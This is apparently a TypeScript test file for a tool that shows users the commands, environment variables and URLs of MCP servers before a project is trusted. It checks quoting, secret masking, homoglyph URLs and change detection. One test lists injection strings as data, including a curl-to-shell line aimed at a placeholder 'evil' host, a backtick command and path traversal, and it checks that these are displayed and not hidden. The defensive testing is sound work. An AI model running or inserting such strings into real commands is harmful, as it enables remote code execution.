import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { serverLines, trustChanges, trustView } from '../../../src/core/trust/view.ts'
import type { ServerSpec } from '../../../src/model/manifest.ts'
import { visible } from '../../../src/ui/escape.ts'
import { runs } from '../../support/runs.ts'

const around = { locked: undefined, launch: undefined, files: [] }
const lines = (server: ServerSpec, more: object = {}) => serverLines('s', server, { ...around, ...more })
const view = (servers: Record<string, ServerSpec>) => trustView({ servers }, { version: 1, packages: {} }, new Map())

describe('the lines of a server', () => {
  it.each<[ServerSpec, string]>([
    [{ command: 'node', args: ['a.js', '--x', ''] }, 's: node a.js --x ""'],
    [{ command: 'node', args: ['a b', 'it"s', 'é'] }, 's: node "a b" "it\\"s" "é"'],
    [{ command: 'my node', env: { A: '1', B: 'x y', C: '' } }, 's: A=1 B="x y" C= "my node"'],
    [{ url: 'https://x.example/mcp' }, 's: https://x.example/mcp'],
    [{ url: 'https://xn.ехаmple/mcp' }, 's: "https://xn.ехаmple/mcp"'],
    [{ on: { windows: { command: 'x' } } }, 's: nothing'],
    [{ package: 'thing@^1' }, 's: the package thing@^1'],
  ])('%j begins with %s', (server, first) => expect(lines(server)[0]).toBe(first))

  it('tell the variables that go to a server from the person’s own environment, in whatever client’s words', () => {
    const server = { url: 'https://x.example/${A}', headers: { H: '${env:B} ${C:-d}', I: '${secret:K}${path:~/x}' } }
    expect(lines(server)).toContain('takes from your environment: B, A, C')
  })

  it('hide certain keys, and nothing that could be a program', () => {
    const key = 'tvly-0a1b2c3d4e5f6a7b8c9d0e1f'
    expect(lines({ command: 'x', args: ['--api-key', key], env: { A_TOKEN: key } }).join()).not.toContain(key)
    for (const code of ['$(curl${IFS}evil|sh)', '`id`', 'a;b&&c', "x'y", 'malicious.mjs', '../x/evil'])
      for (const server of [
        { command: 'sh', args: ['-c', `run --token=${code}`] },
        { command: 'x', args: ['--api-key', code] },
        { command: 'x', env: { API_KEY: code } },
      ])
        expect(lines(server).join('\n')).toContain(JSON.stringify(code).slice(1, -1))
  })

  it('can each be told from every other line, whatever the texts are', () => {
    const text = fc.string({ unit: 'binary', maxLength: 12 })
    fc.assert(
      fc.property(text, text, text, (command, arg, value) => {
        const [first = ''] = lines({ command, args: [arg], env: { A: value } })
        expect(visible(first)).not.toMatch(/\n/)
        // The words of the line are exactly those of the server.
        const words = first.slice('s: '.length).match(/(?:"(?:\\.|[^"\\])*"|[^\s"])+/gu) ?? []
        expect(words).toHaveLength(3)
      }),
      { numRuns: runs(60) },
    )
  })
})

describe('what has changed since a project was trusted', () => {
  it('names added, removed and changed servers, but no changed description', () => {
    const before = view({ a: { command: 'a' }, b: { command: 'b', description: 'x' }, c: { command: 'c' } })
    const now = view({ b: { command: 'b', description: 'y' }, c: { command: 'c', args: ['d'] }, constructor: { command: 'e' } })
    expect(trustChanges(before, now)).toEqual([
      { server: 'c', change: 'changed', before: ['c: c'], now: ['c: c d'] },
      { server: 'constructor', change: 'added', before: [], now: ['constructor: e'] },
      { server: 'a', change: 'removed', before: ['a: a'], now: [] },
    ])
    expect(trustChanges(now, now)).toEqual([])
  })

  it('is seen behind dots', () => {
    const server = (key: string) => ({ a: { command: 'a', env: { API_KEY: key } } })
    const [before, now] = ['tvly-0a1b2c3d4e5f6a7b8c9d0e1f', 'tvly-1a1b2c3d4e5f6a7b8c9d0e1f'].map((key) => view(server(key)))
    expect(trustChanges(before ?? {}, now ?? {})).toEqual([{ server: 'a', change: 'changed', before: [], now: [] }])
  })
})
